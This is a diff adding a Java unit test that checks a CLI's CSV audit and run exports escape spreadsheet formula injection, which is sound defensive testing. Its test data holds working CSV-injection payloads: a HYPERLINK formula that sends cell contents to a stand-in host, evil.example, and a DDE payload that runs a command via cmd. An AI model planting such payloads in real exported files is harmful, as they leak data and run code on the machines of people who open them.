@@ -190,6 +190,44 @@ class OpsCommandsTest {
     }
 
     @Test
+    void csvCellsAFlaggerControlsNeverBecomeSpreadsheetFormulas() throws Exception {
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
+        List<String> hostile = List.of(formula, "+1+2", "-3-4", "@SUM(A1)", "\tx", "\ry");
+        UUID refusing = UUID.randomUUID();
+        api.answers(refusing, status(400, "@SUM(1+1)*cmd|' /C calc'!A0"));
+        requests.flag(hostile.toArray(String[]::new));
+        requests.flag(refusing.toString());
+        assertThat(cli("run").exitCode()).isEqualTo(3);
+
+        List<Map<String, String>> audit = parseCsv(cli("audit", "--format", "csv"));
+        List<Map<String, String>> runs = parseCsv(cli("runs", "--format", "csv"));
+
+        assertThat(audit).extracting(r -> r.get("report_id"))
+                .containsAll(hostile.stream().map(id -> "'" + id).toList());
+        assertThat(audit).filteredOn(r -> r.get("report_id").equals(refusing.toString()))
+                .extracting(r -> r.get("message")).containsExactly("'@SUM(1+1)*cmd|' /C calc'!A0");
+        assertThat(runs).hasSize(1);
+        for (Map<String, String> row : concat(audit, runs)) {
+            assertThat(row.values()).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
+                    .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
+        }
+    }
+
+    private static List<Map<String, String>> parseCsv(CliRun result) throws Exception {
+        assertThat(result.exitCode()).as(result.toString()).isZero();
+        try (MappingIterator<Map<String, String>> it = new CsvMapper().readerForMapOf(String.class)
+                .with(CsvSchema.emptySchema().withHeader()).readValues(result.out())) {
+            return it.readAll();
+        }
+    }
+
+    private static List<Map<String, String>> concat(List<Map<String, String>> a, List<Map<String, String>> b) {
+        List<Map<String, String>> all = new ArrayList<>(a);
+        all.addAll(b);
+        return all;
+    }
+
+    @Test
     void badFiltersAreOneLineAndExit2() {
         assertOneLineUsage(cli("audit", "--outcome", "BOGUS"), "BOGUS");
         assertOneLineUsage(cli("audit", "--since", "yesterday-ish"), "--since");
